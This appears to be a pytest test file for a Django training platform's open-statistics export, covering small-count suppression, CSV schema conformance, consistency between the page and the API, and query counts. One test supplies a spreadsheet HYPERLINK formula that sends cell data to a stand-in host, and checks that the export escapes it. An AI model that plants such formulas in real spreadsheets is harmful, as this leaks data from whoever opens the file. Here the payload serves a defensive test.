"""Open statistics: figures per month, theme, path and ministry; figures from fewer than 5 agents
withheld; the CSV matches its Table Schema; the API serves the same rows."""

import csv
import io
import re

import pytest
from django.core.cache import cache
from django.utils import timezone

from courses.factories import build_path
from learners.accounts.models import OrgUnit
from learners.factories import EnrolmentFactory, OrgUnitFactory, UserFactory
from learners.learning.models import Enrolment
from learners.stats import open_data

pytestmark = pytest.mark.django_db


@pytest.fixture
def campus():
    cache.clear()
    path = build_path()
    big = OrgUnitFactory(name="Ministère A", kind=OrgUnit.Kind.MINISTRY)
    small = OrgUnitFactory(name="Ministère B", kind=OrgUnit.Kind.MINISTRY)
    office = OrgUnitFactory(parent=big)
    now = timezone.now()
    for unit, count in ((office, 5), (small, 2)):
        for _ in range(count):
            EnrolmentFactory(
                user=UserFactory(org_unit=unit),
                path=path,
                status=Enrolment.Status.COMPLETED,
                completed_at=now,
            )
    yield path, now.strftime("%Y-%m")
    cache.clear()


def find(rows, dimension, value=""):
    return next(r for r in rows if r["dimension"] == dimension and r["valeur"] == value)


def test_open_statistics_withholds_figures_of_fewer_than_five_agents(campus):
    """Ministry A (5 agents) is published, ministry B (2 agents) withheld; the total is 7."""
    path, month = campus
    rows = open_data.statistics()
    assert find(rows, "ensemble")["inscriptions"] == 7
    assert find(rows, "ensemble")["parcours_termines"] == 7
    assert find(rows, "parcours", path.title)["inscriptions"] == 7
    assert find(rows, "ministere", "Ministère A")["parcours_termines"] == 5
    assert find(rows, "ministere", "Ministère B")["parcours_termines"] is None
    assert find(rows, "ministere", "Ministère A")["certificats"] == 0
    assert all(row["mois"] == month for row in rows)


def test_open_statistics_csv_matches_its_table_schema(client, campus):
    """Header = the schema's fields; each value of its type (yearmonth, integer or empty)."""
    schema = client.get("/statistiques/schema.json").json()
    response = client.get("/statistiques/statistiques-campus.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    reader = csv.DictReader(io.StringIO(response.content.decode()))
    fields = {field["name"]: field for field in schema["fields"]}
    assert reader.fieldnames == list(fields)
    rows = list(reader)
    assert rows
    for row in rows:
        for name, value in row.items():
            kind = fields[name]["type"]
            if kind == "yearmonth":
                assert re.fullmatch(r"\d{4}-\d{2}", value)
            elif kind == "integer":
                assert value == "" or value.isdigit()
            if "enum" in fields[name].get("constraints", {}):
                assert value in fields[name]["constraints"]["enum"]
    assert any(r["valeur"] == "Ministère B" and r["parcours_termines"] == "" for r in rows)


def test_open_statistics_page_and_api_serve_the_same_figures(client, campus):
    page = client.get("/statistiques/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "Statistiques ouvertes" in html and "<table>" in html
    api = client.get("/api/v1/statistics/")
    assert api.status_code == 200
    assert api.json() == open_data.statistics()


def test_open_statistics_constant_queries(campus, django_assert_max_num_queries):
    """Twelve grouped queries and the ministries, whatever the number of agents."""
    with django_assert_max_num_queries(13):
        open_data.statistics()


def test_open_statistics_csv_cells_are_never_formulas():
    """A path or ministry named like a formula reaches the CSV as text (leading apostrophe), as
    in every other spreadsheet the campus writes (learners/common/spreadsheets.py)."""
    rows = [
        {
            "mois": "2026-11",
            "dimension": "parcours",
            "valeur": '=HYPERLINK("http://evil.example/?"&A1,"Voir")',
            **dict.fromkeys(open_data.MEASURES, 5),
        }
    ]
    (row,) = csv.DictReader(io.StringIO(open_data.statistics_csv(rows)))
    assert row["valeur"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Voir")'
    assert row["mois"] == "2026-11"
